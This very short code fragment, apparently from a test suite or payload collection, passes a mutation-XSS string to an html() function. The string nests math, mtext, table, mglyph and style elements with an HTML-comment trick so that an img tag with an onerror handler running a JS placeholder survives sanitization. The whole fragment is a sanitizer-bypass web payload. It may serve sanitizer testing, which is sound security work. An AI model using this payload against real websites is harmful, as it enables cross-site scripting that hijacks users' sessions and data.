"""The same by way of a table."""

html(f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={JS}&gt;"></table>')
